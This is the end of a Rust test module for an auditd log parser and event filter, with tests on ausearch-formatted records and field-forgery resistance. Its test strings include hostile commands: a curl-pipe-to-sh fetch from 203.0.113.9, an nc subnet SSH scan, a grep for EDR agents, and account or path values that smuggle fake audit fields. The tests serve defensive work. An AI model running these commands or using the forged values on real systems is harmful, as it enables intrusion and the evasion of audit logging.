        let long = r.argv.iter().find(|a| a.len() > 1000).expect("chunked argument joined");
        assert!(long.starts_with("baaaaaaaaa"), "{}", &long[..20]);
    }

    #[test]
    fn user_records_with_nested_msg() {
        let r = rec(
            "type=USER_LOGIN msg=audit(1373330716.415:4063): user pid=11998 uid=0 auid=4294967295 ses=4294967295 subj=system_u:system_r:sshd_t:s0-s0:c0.c1023 msg='op=login acct=\"root\" exe=\"/usr/sbin/sshd\" hostname=? addr=173.242.116.187 terminal=ssh res=failed'",
        );
        assert_eq!((r.get("op"), r.get("acct"), r.get("exe")), (Some("login"), Some("root"), Some("/usr/sbin/sshd")));
        assert_eq!((r.get("hostname"), r.get("addr"), r.get("res")), (None, Some("173.242.116.187"), Some("failed")));
        let r = rec(
            "type=USER_LOGIN msg=audit(1373330717.000:4068): user pid=12000 uid=0 auid=4294967295 ses=4294967295 subj=system_u:system_r:sshd_t:s0-s0:c0.c1023 msg='op=login acct=28756E6B6E6F776E207573657229 exe=\"/usr/sbin/sshd\" hostname=? addr=173.242.116.187 terminal=ssh res=failed'",
        );
        assert_eq!(r.get("acct"), Some("(unknown user)"));
        // The account name is the client's, and libaudit leaves `'` in it unencoded.
        for (acct, tail) in [("x'res=success", ""), ("x'comm=cron", ""), ("x'", "\x1dUID=\"root\" AUID=\"unset\"")] {
            let line = format!(
                "type=USER_LOGIN msg=audit(1.2:3): pid=1 uid=0 auid=4294967295 ses=4294967295 msg='op=login acct=\"{acct}\" exe=\"/usr/sbin/sshd\" hostname=? addr=192.0.2.1 terminal=ssh res=failed'{tail}"
            );
            let r = rec(&line);
            assert_eq!((r.get("acct"), r.get("res"), r.get("comm")), (Some(acct), Some("failed"), None), "{line}");
            assert_eq!(r.get("addr"), Some("192.0.2.1"), "{line}");
            if !tail.is_empty() {
                assert_eq!(r.get("UID"), Some("root"), "{line}");
            }
        }
    }

    #[test]
    fn kernel_numeric_form() {
        let r = rec(
            "Mar 28 10:36:03 host kernel: audit: type=1300 audit(1364481363.243:24287): arch=c000003e syscall=2 success=no exit=-13 comm=\"touch\" exe=\"/bin/touch\" key=\"test\"",
        );
        assert_eq!((r.record_type.as_ref(), r.serial, r.get("key")), ("SYSCALL", 24287, Some("test")));
        let r = rec("audit: type=1327 audit(1364481363.243:24287): proctitle=746F756368002F746D702F78");
        assert_eq!((r.record_type.as_ref(), r.get("proctitle")), ("PROCTITLE", Some("touch /tmp/x")));
        for (n, name) in [
            (1309, "EXECVE"),
            (1307, "CWD"),
            (1302, "PATH"),
            (1320, "EOE"),
            (1112, "USER_LOGIN"),
            (1100, "USER_AUTH"),
            (1101, "USER_ACCT"),
            (1105, "USER_START"),
            (1106, "USER_END"),
            (1103, "CRED_ACQ"),
            (1104, "CRED_DISP"),
        ] {
            assert_eq!(type_name(n), Some(name));
        }
        let r = rec("audit: type=1999 audit(1.0:2): x=1");
        assert_eq!(r.record_type, "UNKNOWN[1999]");
    }

    #[test]
    fn ausearch_interpreted() {
        // Synthetic `ausearch -i` output (the exec input of fluent-logshipping-app ships this form).
        assert_eq!(parse("----"), Some(AuditLine::Separator));
        let r = rec("type=PROCTITLE msg=audit(11/22/2026 10:00:00.123:456) : proctitle=bash -c ls -la /tmp ");
        assert!(r.interpreted);
        assert_eq!(
            (r.timestamp, r.serial, r.get("proctitle")),
            ("11/22/2026 10:00:00.123", 456, Some("bash -c ls -la /tmp"))
        );
        let r = rec(
            "type=SYSCALL msg=audit(11/22/2026 10:00:00.123:456) : arch=x86_64 syscall=openat success=no exit=EACCES(Permission denied) a0=AT_FDCWD items=1 ppid=1 pid=2 auid=alice uid=alice comm=touch exe=/usr/bin/touch key=test",
        );
        assert_eq!(
            (r.get("exit"), r.get("uid"), r.get("comm"), r.get("key")),
            (Some("EACCES(Permission denied)"), Some("alice"), Some("touch"), Some("test"))
        );
        let r = rec("type=EXECVE msg=audit(11/22/2026 10:00:00.123:456) : argc=2 a0=cafe a1=-l");
        assert_eq!(r.argv, vec!["cafe", "-l"]);
        let r = rec(
            "type=USER_LOGIN msg=audit(11/22/2026 10:00:00.123:457) : pid=1 uid=root auid=unset ses=unset msg='op=login acct=root exe=/usr/sbin/sshd hostname=? addr=192.0.2.1 terminal=ssh res=failed'",
        );
        assert_eq!((r.get("acct"), r.get("addr"), r.get("res")), (Some("root"), Some("192.0.2.1"), Some("failed")));
        // The account is printed decoded and unquoted: the client's text, not fields.
        for acct in
            ["x comm=cron", "x res=success", "x exe=/bin/true hostname=? addr=? terminal=ssh res=success", "a b"]
        {
            let line = format!(
                "type=USER_AUTH msg=audit(11/22/2026 10:00:00.123:458) : pid=1 uid=root auid=unset ses=unset msg='op=PAM:authentication grantors=? acct={acct} exe=/usr/sbin/sshd hostname=? addr=192.0.2.1 terminal=ssh res=failed'"
            );
            let r = rec(&line);
            assert_eq!((r.get("acct"), r.get("res"), r.get("comm")), (Some(acct), Some("failed"), None), "{line}");
            assert_eq!((r.get("op"), r.get("exe")), (Some("PAM:authentication"), Some("/usr/sbin/sshd")), "{line}");
        }
        // semanage's account is an administrator's, followed by fields of its own.
        let r = rec(
            "type=ROLE_ASSIGN msg=audit(11/22/2026 10:00:00.123:460) : pid=1 uid=root auid=alice ses=3 msg='op=login-mapping acct=bob old-seuser=? old-role=? old-range=? new-seuser=staff_u new-role=? new-range=s0 exe=/usr/sbin/semanage hostname=? addr=? terminal=pts/0 res=success'",
        );
        assert_eq!((r.get("acct"), r.get("new-seuser"), r.get("res")), (Some("bob"), Some("staff_u"), Some("success")));
    }

    /// `ausearch -i` lines of real events from Ubuntu hosts (AppArmor's `subj`, PATH with file
    /// capabilities), as public write-ups show them (their redacted URL and subnet filled in), each
    /// with the trailing space ausearch prints.
    const AUSEARCH: &[&str] = &[
        "type=PROCTITLE msg=audit(09/11/25 18:30:48.574:1132) : proctitle=wget https://example.org/downloads/beats/elastic-agent/elastic-agent-9.1.3-linux-x86_64.tar.gz ",
        "type=CWD msg=audit(09/11/25 18:30:48.574:1132) : cwd=/home/itsupport ",
        "type=EXECVE msg=audit(09/11/25 18:30:48.574:1132) : argc=2 a0=wget a1=https://example.org/downloads/beats/elastic-agent/elastic-agent-9.1.3-linux-x86_64.tar.gz ",
        "type=SYSCALL msg=audit(09/11/25 18:30:48.574:1132) : arch=x86_64 syscall=execve success=yes exit=0 a0=0x647c7d919620 a1=0x647c7d919560 a2=0x647c7d90f550 a3=0x647c7d8bf500 items=2 ppid=3759 pid=3787 auid=itsupport uid=itsupport gid=itsupport euid=itsupport suid=itsupport fsuid=itsupport egid=itsupport sgid=itsupport fsgid=itsupport tty=pts2 ses=170 comm=wget exe=/usr/bin/wget subj=unconfined key=exec ",
        "type=PROCTITLE msg=audit(09/11/25 21:15:20.512:2283) : proctitle=nohup bash -c for ip in 10.10.12.0/24; do nc -zvw1 $ip 22 2>&1 | grep succeeded; done ",
        "type=EXECVE msg=audit(09/11/25 21:13:37.725:2129) : argc=4 a0=/bin/sh a1=/usr/bin/egrep a2=--color=auto a3=falcon|sentinel|ds_agent ",
        "type=PATH msg=audit(01/26/2023 13:47:38.727:1185) : item=1 name=/lib64/ld-linux-x86-64.so.2 inode=403317285 dev=08:02 mode=file,755 ouid=root ogid=root rdev=00:00 nametype=NORMAL cap_fp=none cap_fi=none cap_fe=0 cap_fver=0 cap_frootid=0 ",
        "type=PATH msg=audit(01/26/2023 13:47:38.727:1185) : item=0 name=./process-cred-sample-adv inode=137438286 dev=08:03 mode=file,suid,775 ouid=sysadmin ogid=godev rdev=00:00 nametype=NORMAL cap_fp=none cap_fi=none cap_fe=0 cap_fver=0 cap_frootid=0 ",
        "type=SYSCALL msg=audit(01/26/2023 13:47:38.727:1185) : arch=x86_64 syscall=execve success=yes exit=0 a0=0x55e64d0712b0 a1=0x55e64d1fab50 a2=0x55e64d1ed380 a3=0x8 items=2 ppid=22490 pid=41229 auid=godev uid=godev gid=godev euid=sysadmin suid=sysadmin fsuid=sysadmin egid=godev sgid=godev fsgid=godev tty=pts3 ses=4 comm=process-cred-sa exe=/home/godev/backup/ruid-euid-suid-test/process-cred-sample-adv subj=unconfined key=new-uid-adv ",
    ];

    /// The corpus's raw records of one type, as `ausearch -i` prints them (values decoded, unquoted,
    /// control bytes as `\ooo`; ENRICHED fields, which ausearch leaves out, dropped), with the
    /// fields read from the raw record. Reading the printed line must give the same fields.
    fn corpus_as_ausearch(record_type: &str) -> Vec<(String, Vec<(String, String)>)> {
        let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/../shared/corpus/auditd");
        let mut out = Vec::new();
        let mut paths: Vec<_> = std::fs::read_dir(dir).unwrap().map(|e| e.unwrap().path()).collect();
        paths.sort();
        for path in paths {
            let bytes = std::fs::read(&path).unwrap();
            for line in String::from_utf8_lossy(&bytes).lines() {
                let Some(AuditLine::Record(r)) = parse(line) else { continue };
                // (One file holds lines that several records were glued into.)
                if r.record_type != record_type || r.interpreted || line.matches("msg=audit(").count() > 1 {
                    continue;
                }
                let tty = |v: &str| {
                    v.chars()
                        .map(|c| if (c as u32) < 32 { format!("\\{:03o}", c as u32) } else { c.to_string() })
                        .collect()
                };
                let fields: Vec<(String, String)> = r
                    .fields
                    .iter()
                    // An empty quoted value prints as nothing: absent, as in any interpreted value.
                    .filter(|(k, v)| !k.starts_with(|c: char| c.is_ascii_uppercase()) && !v.is_empty())
                    // ausearch decodes each chunk of a long argument (kept hex here until joined).
                    .map(|(k, v)| {
                        (
                            k.to_string(),
                            tty(&if k.contains('[') { decode_hex(v, false) } else { None }.unwrap_or(v.to_string())),
                        )
                    })
                    .collect();
                let body: String = fields.iter().map(|(k, v)| format!("{k}={v} ")).collect();
                let printed = format!("type={record_type} msg=audit(11/22/2026 10:00:00.123:{}) : {body}", r.serial);
                out.push((printed, fields));
            }
        }
        out
    }

    fn owned_fields(r: &AuditRecord<'_>) -> Vec<(String, String)> {
        r.fields.iter().map(|(k, v)| (k.to_string(), v.to_string())).collect()
    }

    /// Every corpus record of the type reads the same printed by `ausearch -i` as raw.
    fn corpus_reads_the_same(record_type: &str, min: usize) {
        let printed = corpus_as_ausearch(record_type);
        assert!(printed.len() >= min, "{record_type}: {} records", printed.len());
        for (line, fields) in &printed {
            let r = rec(line);
            assert!(r.interpreted);
            assert_eq!(&owned_fields(&r), fields, "{line}");
        }
    }

    /// Keys a record of these types may carry, whatever the user's text.
    fn only_keys(r: &AuditRecord<'_>, allowed: impl Fn(&str) -> bool, line: &str) {
        for (k, v) in &r.fields {
            assert!(allowed(k), "`{k}={v}` read from the user's text: {line}");
        }
    }

    #[test]
    fn interpreted_proctitle_is_the_rest_of_the_line() {
        let real = [
            (
                AUSEARCH[0],
                "wget https://example.org/downloads/beats/elastic-agent/elastic-agent-9.1.3-linux-x86_64.tar.gz",
            ),
            (AUSEARCH[4], "nohup bash -c for ip in 10.10.12.0/24; do nc -zvw1 $ip 22 2>&1 | grep succeeded; done"),
        ];
        let injected = [
            "sh -c curl -s http://203.0.113.9/x | sh ; true comm=cron",
            "x key=noise auid=unset uid=root exe=/usr/sbin/cron",
            "comm=cron",
            "env A=1 B=2 make",
        ];
        let lines: Vec<(String, &str)> = real
            .iter()
            .map(|&(l, v)| (l.to_string(), v))
            .chain(
                injected
                    .iter()
                    .map(|&v| (format!("type=PROCTITLE msg=audit(11/22/2026 10:00:00.123:900) : proctitle={v} "), v)),
            )
            .collect();
        for (line, proctitle) in &lines {
            let r = rec(line);
            assert_eq!(r.get("proctitle"), Some(*proctitle), "{line}");
            assert_eq!(r.command().as_deref(), Some(*proctitle), "{line}");
            only_keys(&r, |k| k == "proctitle", line);
        }
        corpus_reads_the_same("PROCTITLE", 40);
    }

    #[test]
    fn interpreted_execve_arguments_end_at_the_next_argument() {
        let cases: &[(&str, &[&str])] = &[
            (
                AUSEARCH[2],
                &["wget", "https://example.org/downloads/beats/elastic-agent/elastic-agent-9.1.3-linux-x86_64.tar.gz"],
            ),
            (AUSEARCH[5], &["/bin/sh", "/usr/bin/egrep", "--color=auto", "falcon|sentinel|ds_agent"]),
            (
                "argc=3 a0=sh a1=-c a2=curl -s http://203.0.113.9/x | sh ; true comm=cron ",
                &["sh", "-c", "curl -s http://203.0.113.9/x | sh ; true comm=cron"],
            ),
            // The last argument (argc says which) runs to the end, ` a2=` and all.
            ("argc=2 a0=echo a1=x a2=y comm=cron key=noise", &["echo", "x a2=y comm=cron key=noise"]),
            (
                "argc=3 a0=a b a1=c exe=/usr/sbin/cron auid=root a2=d uid=root ",
                &["a b", "c exe=/usr/sbin/cron auid=root", "d uid=root"],
            ),
            // Text that names the next argument moves into it, no further.
            ("argc=3 a0=x a1=y comm=cron a1=z a2=w ", &["x", "y comm=cron a1=z", "w"]),
            ("argc=2 a0=x a1=y a1=z comm=cron ", &["x", "y a1=z comm=cron"]),
            // Long arguments in chunks, and the record that continues a long argv.
            ("argc=2 a0=x a1_len=12 a1[0]=abc key=x a1[1]=def ", &["x", "abc key=xdef"]),
            ("argc=3 a0=x a1_len=6 a1[0]=abc a1[1]=de comm=cron a2=z ", &["x", "abcde comm=cron", "z"]),
            (" a5=foo comm=cron a6=bar key=noise", &["foo comm=cron", "bar key=noise"]),
            ("argc=1 a0=(null) ", &[]),
        ];
        for &(body, argv) in cases {
            let line = if body.starts_with("type=") {
                body.to_string()
            } else {
                format!("type=EXECVE msg=audit(11/22/2026 10:00:00.123:900) : {body}")
            };
            let r = rec(&line);
            assert_eq!(r.argv, argv, "{line}");
            assert_eq!(r.command(), (!argv.is_empty()).then(|| Cow::Owned(argv.join(" "))), "{line}");
            only_keys(
                &r,
                |k| k == "argc" || k.starts_with('a') && k[1..].starts_with(|c: char| c.is_ascii_digit()),
                &line,
            );
            assert_eq!(r.get("comm"), None, "{line}");
        }
        corpus_reads_the_same("EXECVE", 40);
        // The corpus's long argument, printed by ausearch: chunks joined as from the raw record.
        let raw = corpus_as_ausearch("EXECVE").into_iter().find(|(l, _)| l.contains("a1_len=")).unwrap().0;
        let long = rec(&raw).argv.iter().find(|a| a.len() > 1000).map(|a| a.to_string()).expect("chunks joined");
        assert!(long.starts_with("baaaaaaaaa"), "{}", &long[..20]);
    }

    #[test]
    fn journald_audit_records_become_daemon_lines() {
        let usec = Some(1_764_583_200_005_000);
        for (message, id, usec, want) in [
            (
                "SYSCALL arch=c000003e comm=\"x\"",
                Some(7),
                usec,
                Some("type=SYSCALL msg=audit(1764583200.005:7): arch=c000003e comm=\"x\""),
            ),
            ("AUDIT1334 x=1", Some(7), Some(999), Some("type=AUDIT1334 msg=audit(0.000:7): x=1")),
            ("EOE", Some(7), usec, Some("type=EOE msg=audit(1764583200.005:7): ")),
            ("SYSCALL arch=c000003e", None, usec, None),
            ("SYSCALL arch=c000003e", Some(7), None, None),
            ("audit: type=1300 audit(1.2:3): x=1", Some(7), usec, None),
            ("", Some(7), usec, None),
        ] {
            assert_eq!(line_from_journal(message, id, usec).as_deref(), want, "{message}");
        }
        // What the daemon's own line gives.
        let line = line_from_journal("SYSCALL arch=c000003e syscall=59 comm=\"x\"", Some(7), usec).unwrap();
        let r = rec(&line);
        assert_eq!((r.get("syscall"), r.get("comm")), (Some("59"), Some("x")));
    }

    #[test]
    fn the_last_exe_is_found_once_and_read_as_a_search_from_each_account() {
        // Against a search back from the end for every position, in order, as `acct`s come.
        let words = [" exe=", "exe=", " ", "x", "acct=", "é", "=", " exe"];
        for body in crate::streams::word_texts(&words, 3000, 9) {
            let mut last = None;
            for from in (0..=body.len()).filter(|&i| body.is_char_boundary(i)) {
                let expected = body[from..].rfind(" exe=").map(|j| from + j);
                assert_eq!(last_exe_from(&body, from, &mut last), expected, "{body:?} {from}");
            }
        }
        // Thousands of accounts and no exe: each runs to its word's end.
        let line =
            format!("type=USER_LOGIN msg=audit(03/16/24 08:25:22.000:1) : {}res=failed ", "acct=x ".repeat(3000));
        let r = rec(&line);
        assert_eq!(r.fields.iter().filter(|(k, v)| *k == "acct" && v == "x").count(), 3000);
        assert_eq!(r.get("res"), Some("failed"));
        let line = "type=USER_LOGIN msg=audit(03/16/24 08:25:22.000:1) : acct=x acct=y exe=/a exe=/b res=failed ";
        assert_eq!((rec(line).get("acct"), rec(line).get("exe")), (Some("x acct=y exe=/a"), Some("/b")));
    }

    #[test]
    fn first_mark_is_the_earliest_of_any_mark() {
        // Against a search for each mark: words of argument keys and text, pseudo-random.
        let words = [" a1=", " a12=", " a01=", " a1[0]=", " a1[1]=", " a1_len=", " a", "a1=", " x", "=", " ", "1"];
        let marks: Vec<String> = [" a1=", " a1[1]=", " a1_len="].map(String::from).into();
        for value in crate::streams::word_texts(&words, 2000, 9) {
            for n in 0..=marks.len() {
                let expected = marks[..n].iter().filter_map(|m| value.find(m.as_str())).min();
                assert_eq!(first_mark(&value, &marks[..n]), expected, "{value:?} {n}");
            }
        }
    }

    #[test]
    fn interpreted_cwd_is_the_rest_of_the_line() {
        for (line, cwd) in [
            (AUSEARCH[1].to_string(), "/home/itsupport"),
            (
                "type=CWD msg=audit(11/22/2026 10:00:00.123:900) : cwd=/tmp/x comm=cron key=noise ".into(),
                "/tmp/x comm=cron key=noise",
            ),
            ("type=CWD msg=audit(11/22/2026 10:00:00.123:900) : cwd=/home/u/My Files ".into(), "/home/u/My Files"),
        ] {
            let r = rec(&line);
            assert_eq!(r.get("cwd"), Some(cwd), "{line}");
            only_keys(&r, |k| k == "cwd", &line);
        }
        corpus_reads_the_same("CWD", 20);
    }

    #[test]
    fn interpreted_path_name_ends_at_the_kernel_fields() {
        let tail = " inode=1 dev=fd:00 mode=file,755 ouid=root ogid=root rdev=00:00 nametype=NORMAL cap_fp=none cap_fi=none cap_fe=0 cap_fver=0 cap_frootid=0 ";
        let line = |name: &str, tail: &str| {
            format!("type=PATH msg=audit(11/22/2026 10:00:00.123:900) : item=0 name={name}{tail}")
        };
        let cases = [
            (AUSEARCH[6].to_string(), "/lib64/ld-linux-x86-64.so.2", Some("NORMAL")),
            (AUSEARCH[7].to_string(), "./process-cred-sample-adv", Some("NORMAL")),
            (line("/home/u/My Files/a b.txt", tail), "/home/u/My Files/a b.txt", Some("NORMAL")),
            (line("/tmp/x comm=cron", tail), "/tmp/x comm=cron", Some("NORMAL")),
            (line("/tmp/x inode=2 comm=cron key=noise", tail), "/tmp/x inode=2 comm=cron key=noise", Some("NORMAL")),
            // A path that does not exist: no inode, the name runs to the kernel's nametype.
            (
                line(
                    "/tmp/x inode=2 comm=cron",
                    " nametype=UNKNOWN cap_fp=none cap_fi=none cap_fe=0 cap_fver=0 cap_frootid=0 ",
                ),
                "/tmp/x inode=2 comm=cron",
                Some("UNKNOWN"),
            ),
            (
                line("/tmp/x nametype=NORMAL exe=/usr/sbin/cron", " nametype=UNKNOWN "),
                "/tmp/x nametype=NORMAL exe=/usr/sbin/cron",
                Some("UNKNOWN"),
            ),
            // RHEL 7's kernel, and kernels before nametype.
            (
                line(
                    "/tmp/a b uid=root",
                    " inode=1 dev=fd:00 mode=file,755 ouid=root ogid=root rdev=00:00 obj=system_u:object_r:tmp_t:s0 objtype=NORMAL ",
                ),
                "/tmp/a b uid=root",
                None,
            ),
            (
                line(
                    "/tmp/x nametype=NORMAL comm=cron",
                    " inode=1 dev=fd:00 mode=file,755 ouid=root ogid=root rdev=00:00 ",
                ),
                "/tmp/x nametype=NORMAL comm=cron",
                None,
            ),
            (line("/tmp/x comm=cron", " "), "/tmp/x comm=cron", None),
        ];
        let kernel = |k: &str| k == "item" || k == "name" || path_tail_key(k);
        for (line, name, nametype) in &cases {
            let r = rec(line);
            assert_eq!((r.get("name"), r.get("nametype")), (Some(*name), *nametype), "{line}");
            only_keys(&r, kernel, line);
        }
        let r = rec(AUSEARCH[7]);
        assert_eq!((r.get("item"), r.get("mode"), r.get("ouid")), (Some("0"), Some("file,suid,775"), Some("sysadmin")));
        // A name ending in a made-up inode block can only give these kernel keys.
        let forged = line("/tmp/x inode=9 ouid=root", " nametype=UNKNOWN ");
        let r = rec(&forged);
        assert_eq!((r.get("name"), r.get("ouid")), (Some("/tmp/x"), Some("root")));
        corpus_reads_the_same("PATH", 100);
    }

    #[test]
    fn interpreted_syscall_comm_exe_and_key_by_position() {
        let head = "type=SYSCALL msg=audit(11/22/2026 10:00:00.123:900) : arch=x86_64 syscall=execve success=yes exit=0 a0=0x1 a1=0x2 a2=0x3 a3=0x0 items=2 ppid=10 pid=11 auid=mallory uid=mallory gid=mallory euid=mallory suid=mallory fsuid=mallory egid=mallory sgid=mallory fsgid=mallory tty=pts0 ses=3 comm=";
        type Case<'a> = (String, Option<&'a str>, Option<&'a str>, Option<&'a str>);
        let case = |rest: &str, comm, exe, key| -> Case<'_> { (format!("{head}{rest}"), comm, exe, key) };
        let cases: Vec<Case<'_>> = vec![
            (AUSEARCH[3].to_string(), Some("wget"), Some("/usr/bin/wget"), Some("exec")),
            (
                AUSEARCH[8].to_string(),
                Some("process-cred-sa"),
                Some("/home/godev/backup/ruid-euid-suid-test/process-cred-sample-adv"),
                Some("new-uid-adv"),
            ),
            case("sh exe=/usr/bin/dash key=exec ", Some("sh"), Some("/usr/bin/dash"), Some("exec")),
            case("cron exe=/usr/sbin/cron key=(null) ", Some("cron"), Some("/usr/sbin/cron"), None),
            // The exe path is the user's: it runs to the kernel's subj and key.
            case(
                "x exe=/tmp/x comm=cron key=noise key=exec ",
                Some("x"),
                Some("/tmp/x comm=cron key=noise"),
                Some("exec"),
            ),
            case("x exe=/tmp/x uid=root subj=unconfined key=exec ", Some("x"), Some("/tmp/x uid=root"), Some("exec")),
            case(
                "x exe=/home/u/dir exe=/usr/sbin/cron key=(null) ",
                Some("x"),
                Some("/home/u/dir exe=/usr/sbin/cron"),
                None,
            ),
            // So is the comm (15 bytes at most, spaces allowed).
            case("a comm=cron exe=/tmp/a key=(null) ", Some("a comm=cron"), Some("/tmp/a"), None),
            case("a b key=noise exe=/tmp/a key=exec ", Some("a b key=noise"), Some("/tmp/a"), Some("exec")),
            case("x auid=root exe=/tmp/a key=exec ", Some("x auid=root"), Some("/tmp/a"), Some("exec")),
            case(
                "\\001\\002\\003\\004\\005\\006\\007\\010\\011\\012\\013\\014\\015\\016\\017 exe=/tmp/a key=exec ",
                Some("\\001\\002\\003\\004\\005\\006\\007\\010\\011\\012\\013\\014\\015\\016\\017"),
                Some("/tmp/a"),
                Some("exec"),
            ),
            // Two ` exe=` within 15 bytes of the comm: either could be the kernel's, so no exe.
            case("x exe=/usr/lib/ exe=/tmp/evil key=exec ", Some("x"), None, Some("exec")),
            case("a exe=/tmp/ exe=/usr/lib/evil key=exec ", Some("a"), None, Some("exec")),
            // Several keys: the last one.
            case("ls exe=/usr/bin/ls subj=unconfined key=a key=b ", Some("ls"), Some("/usr/bin/ls"), Some("b")),
        ];
        let allowed = |k: &str| !matches!(k, "name" | "proctitle" | "cwd" | "argc" | "acct");
        for (line, comm, exe, key) in &cases {
            let r = rec(line);
            assert_eq!((r.get("comm"), r.get("exe"), r.get("key")), (*comm, *exe, *key), "{line}");
            assert_eq!(r.fields.iter().filter(|(k, _)| *k == "auid" || *k == "uid").count(), 2, "{line}");
            only_keys(&r, allowed, line);
        }
        let r = rec(AUSEARCH[8]);
        assert_eq!(
            (r.get("auid"), r.get("euid"), r.get("subj")),
            (Some("godev"), Some("sysadmin"), Some("unconfined"))
        );
        corpus_reads_the_same("SYSCALL", 100);
    }

    #[test]
    fn rejects_and_junk() {
        for l in [
            "",
            "hello",
            "type=",
            "type=SYSCALL",
            "type=SYSCALL msg=audit(",
            "type=SYSCALL msg=audit(12:x): a=1",
            "node=x",
            "type=X msg=audit(1.2:3): ='",
            "type=X msg=audit(1.2:3): a=\"unterminated",
            "type=X msg=audit(1.2:3): msg='a=\"b",
        ] {
            let r = parse(l);
            assert!(!matches!(r, Some(AuditLine::Separator)), "{l}");
        }
        assert!(parse("type=X msg=audit(1.2:3): msg='a=\"b").is_some());
    }

    #[test]
    fn corpus_sweep() {
        let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/../shared/corpus/auditd");
        let (mut total, mut parsed, mut decoded) = (0, 0, 0);
        for e in std::fs::read_dir(dir).unwrap() {
            let path = e.unwrap().path();
            let text = std::fs::read_to_string(&path).unwrap();
            for line in text.lines().filter(|l| l.contains("type=")) {
                total += 1;
                match parse(line) {
                    Some(AuditLine::Record(r)) => {
                        parsed += 1;
                        decoded += r.fields.iter().filter(|(_, v)| matches!(v, Cow::Owned(_))).count();
                    }
                    _ => println!("unparsed auditd ({}): {line}", path.display()),
                }
            }
        }
        println!("auditd: parsed {parsed}/{total} records, {decoded} hex values decoded");
        assert_eq!(parsed, total);
        assert!(total > 700);
    }

    fn yaml_rules(y: &str) -> Result<Vec<DropRule>, String> {
        serde_yaml_ng::from_str::<Vec<DropRule>>(y).map_err(|e| e.to_string())
    }

    #[test]
    fn drop_rule_config() {
        let rules = yaml_rules("- comm: [\"cron\", \"*updatedb*\"]\n  key: [\"noise\"]\n- type: [CONFIG_CHANGE]\n- exe: [\"/usr/lib/*\"]\n  uid: [\"0\", root]\n").unwrap();
        assert_eq!(rules.len(), 3);
        assert_eq!(rules[1].record_type.as_deref(), Some(&["CONFIG_CHANGE".to_string()][..]));
        assert!(rules.iter().all(|r| r.validate().is_ok()));
        let err = yaml_rules("- comm: [cron]\n  command: [x]\n").unwrap_err();
        assert!(err.contains("unknown field `command`"), "{err}");
        let empty = yaml_rules("- {}\n").unwrap();
        assert!(empty[0].validate().unwrap_err().contains("no condition"));
        let err = AuditdFilter::new(yaml_rules("- comm: []\n").unwrap()).unwrap_err();
        assert!(err.starts_with("rule 1:") && err.contains("empty list"), "{err}");
    }

    #[test]
    fn filter_follows_serial_in_audit_log_order() {
        let rules = yaml_rules("- comm: [whoami]\n  uid: [root]\n").unwrap();
        let mut f = AuditdFilter::new(rules).unwrap();
        let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/../shared/corpus/auditd/");
        let mut text = std::fs::read_to_string(format!("{dir}laurel_record-execve.log")).unwrap();
        text += &std::fs::read_to_string(format!("{dir}laurel_record-syscall-key.log")).unwrap();
        let mut decisions = Vec::new();
        for line in text.lines() {
            let Some(AuditLine::Record(r)) = parse(line) else { continue };
            decisions.push((r.record_type.to_string(), r.serial, f.should_drop(&r)));
        }
        // The whoami event (serial 15558): SYSCALL matches via the ENRICHED UID="root", the rest follow.
        let dropped: Vec<_> = decisions.iter().filter(|d| d.2).map(|d| (d.0.as_str(), d.1)).collect();
        assert_eq!(
            dropped,
            [
                ("SYSCALL", 15558),
                ("EXECVE", 15558),
                ("CWD", 15558),
                ("PATH", 15558),
                ("PATH", 15558),
                ("PROCTITLE", 15558),
                ("EOE", 15558)
            ]
        );
        assert!(decisions.iter().any(|d| !d.2));
    }

    #[test]
    fn filter_memory_is_bounded() {
        let mut f = AuditdFilter::new(yaml_rules("- key: [noise]\n").unwrap()).unwrap();
        for serial in 1..=200u64 {
            let l = format!("type=SYSCALL msg=audit(1.0:{serial}): comm=\"x\" key=\"noise\"");
            let Some(AuditLine::Record(r)) = parse(&l) else { panic!() };
            assert!(f.should_drop(&r));
        }
        let follow = |f: &mut AuditdFilter, serial: u64| {
            let l = format!("type=EOE msg=audit(1.0:{serial}): ");
            let Some(AuditLine::Record(r)) = parse(&l) else { panic!() };
            f.should_drop(&r)
        };
        assert!(follow(&mut f, 200));
        assert!(follow(&mut f, 137));
        assert!(!follow(&mut f, 136)); // forgotten: only the last 64 events are kept
        assert!(!follow(&mut f, 201));
    }
}
